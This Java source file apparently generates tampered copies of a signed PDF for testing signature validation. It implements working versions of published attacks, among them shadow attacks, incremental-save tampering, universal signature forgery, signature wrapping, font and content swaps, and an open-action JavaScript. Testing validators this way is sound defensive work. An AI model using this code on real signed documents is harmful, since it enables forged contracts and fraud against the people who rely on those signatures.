package vn.sohoa.signing;

import java.io.BufferedOutputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFreeText;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationRubberStamp;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationSquare;
import org.apache.pdfbox.pdmodel.interactive.form.PDSignatureField;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;

/** What has been done to signed files, by the names under which it was published. */
enum Attack {
    PAGE_APPENDED {
        @Override
        void in(PDDocument document) {
            document.addPage(new PDPage(PDRectangle.A4));
            touch(document.getPages().getCOSObject());
        }
    },
    PAGE_REMOVED {
        @Override
        void in(PDDocument document) {
            document.removePage(0);
            touch(document.getPages().getCOSObject());
        }
    },
    FREE_TEXT_OVER_THE_TEXT {
        @Override
        void in(PDDocument document) throws IOException {
            PDAnnotationFreeText note = new PDAnnotationFreeText();
            note.setContents("1.000.000");
            note.setDefaultAppearance("/Helv 12 Tf 0 g");
            lay(document, note);
        }
    },
    STAMP_OVER_THE_TEXT {
        @Override
        void in(PDDocument document) throws IOException {
            lay(document, new PDAnnotationRubberStamp());
        }
    },
    SQUARE_OVER_THE_TEXT {
        @Override
        void in(PDDocument document) throws IOException {
            lay(document, new PDAnnotationSquare());
        }
    },
    /** "Replace" of the shadow attacks, by the page's own stream. */
    CONTENT_SWAPPED {
        @Override
        void in(PDDocument document) throws IOException {
            COSStream content = (COSStream) document.getPage(0).getCOSObject().getDictionaryObject(COSName.CONTENTS);
            fill(content, "0 0 100 100 re f");
            touch(content);
        }
    },
    /** The same by a new stream. */
    CONTENT_REPLACED {
        @Override
        void in(PDDocument document) throws IOException {
            COSStream content = document.getDocument().createCOSStream();
            fill(content, "0 0 100 100 re f");
            document.getPage(0).getCOSObject().setItem(COSName.CONTENTS, content);
            touch(content);
            touch(document.getPage(0).getCOSObject());
        }
    },
    /** A font whose glyphs are other ones: the text is as signed, what is read is not. */
    FONT_SWAPPED {
        @Override
        void in(PDDocument document) throws IOException {
            COSDictionary fonts =
                    document.getPage(0).getResources().getCOSObject().getCOSDictionary(COSName.FONT);
            COSName name = fonts.keySet().iterator().next();
            COSDictionary font = fonts.getCOSDictionary(name);
            font.setItem(COSName.BASE_FONT, COSName.getPDFName("Helvetica"));
            touch(font);
        }
    },
    /** "Hide" of the shadow attacks: what covered the page when it was signed is gone. */
    OVERLAY_REMOVED {
        @Override
        void in(PDDocument document) {
            COSDictionary resources = document.getPage(0).getResources().getCOSObject();
            resources.removeItem(COSName.getPDFName("XObject"));
            resources.removeItem(COSName.FONT);
            touch(resources);
            touch(document.getPage(0).getCOSObject());
        }
    },
    PAGE_TURNED {
        @Override
        void in(PDDocument document) {
            document.getPage(0).setRotation(180);
            touch(document.getPage(0).getCOSObject());
        }
    },
    SIGNATURE_LOOK_OVERWRITTEN {
        @Override
        void in(PDDocument document) throws IOException {
            COSDictionary field = document.getSignatureFields().getFirst().getCOSObject();
            COSStream look = (COSStream) field.getCOSDictionary(COSName.AP).getDictionaryObject(COSName.N);
            fill(look, "0 0 100 100 re f");
            touch(look);
        }
    },
    SIGNATURE_LOOK_MOVED {
        @Override
        void in(PDDocument document) throws IOException {
            PDSignatureField field = document.getSignatureFields().getFirst();
            field.getWidgets().getFirst().setRectangle(new PDRectangle(0, 0, 300, 300));
            touch(field.getCOSObject());
        }
    },
    SIGNATURE_HIDDEN {
        @Override
        void in(PDDocument document) throws IOException {
            PDSignatureField field = document.getSignatureFields().getFirst();
            field.getWidgets().getFirst().setHidden(true);
            touch(field.getCOSObject());
        }
    },
    /** Runs when the file is opened. */
    ACTION_ADDED {
        @Override
        void in(PDDocument document) {
            document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"));
            touch(document.getDocumentCatalog().getCOSObject());
        }
    },
    FORM_FIELD_ADDED {
        @Override
        void in(PDDocument document) {
            var form = document.getDocumentCatalog().getAcroForm(null);
            PDTextField field = new PDTextField(form);
            field.setPartialName("amount");
            form.getFields().add(field);
            touch(form.getCOSObject());
            touch(form.getCOSObject().getCOSArray(COSName.FIELDS));
            touch(document.getDocumentCatalog().getCOSObject());
        }
    },
    /** Makes readers draw every field anew. */
    APPEARANCES_TO_BE_DRAWN_ANEW {
        @Override
        void in(PDDocument document) {
            COSDictionary form = document.getDocumentCatalog().getAcroForm(null).getCOSObject();
            form.setBoolean(COSName.NEED_APPEARANCES, true);
            touch(form);
            touch(document.getDocumentCatalog().getCOSObject());
        }
    },
    /** Sneaky signature attack: a field that looks like a signature, empty, over the text. */
    EMPTY_SIGNATURE_FIELD_OVER_THE_TEXT {
        @Override
        void in(PDDocument document) throws IOException {
            var form = document.getDocumentCatalog().getAcroForm(null);
            PDSignatureField field = new PDSignatureField(form);
            var widget = field.getWidgets().getFirst();
            widget.setRectangle(new PDRectangle(0, 0, 300, 100));
            form.getFields().add(field);
            document.getPage(0).getAnnotations().add(widget);
            touch(form.getCOSObject());
            touch(form.getCOSObject().getCOSArray(COSName.FIELDS));
            touch(document.getPage(0).getCOSObject());
            touch(document.getDocumentCatalog().getCOSObject());
        }
    },
    /** Universal signature forgery. */
    CONTENTS_NULLED {
        @Override
        void in(PDDocument document) throws IOException {
            COSDictionary signature = signature(document);
            signature.setItem(COSName.CONTENTS, new COSString(new byte[16], true));
            touch(signature);
        }
    },
    CONTENTS_MISSING {
        @Override
        void in(PDDocument document) throws IOException {
            COSDictionary signature = signature(document);
            signature.removeItem(COSName.CONTENTS);
            touch(signature);
        }
    },
    BYTE_RANGE_MISSING {
        @Override
        void in(PDDocument document) throws IOException {
            COSDictionary signature = signature(document);
            signature.removeItem(COSName.BYTERANGE);
            touch(signature);
        }
    },
    BYTE_RANGE_NEGATIVE {
        @Override
        void in(PDDocument document) throws IOException {
            COSDictionary signature = signature(document);
            signature.setItem(COSName.BYTERANGE, COSArray.ofCOSIntegers(List.of(0, -1, 10, 20)));
            touch(signature);
        }
    },
    SIGNATURE_VALUE_REMOVED {
        @Override
        void in(PDDocument document) throws IOException {
            COSDictionary field = document.getSignatureFields().getFirst().getCOSObject();
            field.removeItem(COSName.V);
            touch(field);
        }
    },
    SIGNATURES_REMOVED {
        @Override
        void in(PDDocument document) {
            document.getDocumentCatalog().setAcroForm(null);
            document.getPage(0).getCOSObject().removeItem(COSName.ANNOTS);
            touch(document.getDocumentCatalog().getCOSObject());
            touch(document.getPage(0).getCOSObject());
        }
    },
    /** Incremental saving attack without a cross-reference table: readers that rebuild it see the new object. */
    BODY_WITHOUT_TABLE {
        @Override
        byte[] on(byte[] file) throws IOException {
            return joined(
                    file, "\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n".getBytes(StandardCharsets.US_ASCII));
        }
    },
    BYTES_BEHIND_THE_END {
        @Override
        byte[] on(byte[] file) throws IOException {
            return joined(
                    file, "\nPK\u0003\u0004 something else entirely\n%%EOF\n".getBytes(StandardCharsets.US_ASCII));
        }
    },
    /** The first byte of the first page's content. */
    CONTENT_BYTE_FLIPPED {
        @Override
        byte[] on(byte[] file) {
            byte[] changed = file.clone();
            changed[new String(file, StandardCharsets.ISO_8859_1).indexOf("stream") + 12] ^= 1;
            return changed;
        }
    },
    /**
     * Signature wrapping: a second byte range, in the gap behind the contents, moves the second part back, and something
     * stands before it.
     */
    SECOND_RANGE_MOVED {
        @Override
        byte[] on(byte[] file) {
            String text = new String(file, StandardCharsets.ISO_8859_1);
            Matcher range =
                    Pattern.compile("/ByteRange ?\\[0 (\\d+) (\\d+) (\\d+) *]").matcher(text);
            if (!range.find()) {
                throw new IllegalStateException("no byte range");
            }
            int resume = Integer.parseInt(range.group(2));
            String foreign = "\n/Q (" + "x".repeat(100) + ")\n";
            String wrapped = "/ByteRange [0 %s %d %s]";
            int length = wrapped.length() + 20 + foreign.length();
            String moved = String.format(wrapped, range.group(1), resume + length, range.group(3)) + foreign;
            return (text.substring(0, resume) + moved + " ".repeat(length - moved.length()) + text.substring(resume))
                    .getBytes(StandardCharsets.ISO_8859_1);
        }
    };

    /** Makes the attacked file from the signed one. */
    Path make(Path signed, Path out) {
        try {
            return Files.write(out, on(Files.readAllBytes(signed)));
        } catch (IOException failed) {
            throw new IllegalStateException(failed);
        }
    }

    byte[] on(byte[] file) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (PDDocument document = Loader.loadPDF(file);
                OutputStream sink = new BufferedOutputStream(out)) {
            in(document);
            document.saveIncremental(sink);
        }
        return out.toByteArray();
    }

    void in(PDDocument document) throws IOException {
        throw new IllegalStateException(name());
    }

    private static void lay(PDDocument document, PDAnnotation annotation) throws IOException {
        annotation.setRectangle(new PDRectangle(10, 10, 200, 40));
        PDPage page = document.getPage(0);
        page.getAnnotations().add(annotation);
        annotation.constructAppearances(document);
        touch(page.getCOSObject());
        COSBase list = page.getCOSObject().getDictionaryObject(COSName.ANNOTS);
        ((COSArray) list).setNeedToBeUpdated(true);
    }

    private static COSDictionary signature(PDDocument document) throws IOException {
        return document.getSignatureDictionaries().getFirst().getCOSObject();
    }

    private static void fill(COSStream stream, String content) throws IOException {
        try (OutputStream out = stream.createOutputStream()) {
            out.write(content.getBytes(StandardCharsets.US_ASCII));
        }
    }

    private static void touch(COSDictionary object) {
        object.setNeedToBeUpdated(true);
    }

    private static void touch(COSArray object) {
        object.setNeedToBeUpdated(true);
    }

    private static byte[] joined(byte[] one, byte[] two) {
        byte[] all = Arrays.copyOf(one, one.length + two.length);
        System.arraycopy(two, 0, all, one.length, two.length);
        return all;
    }
}
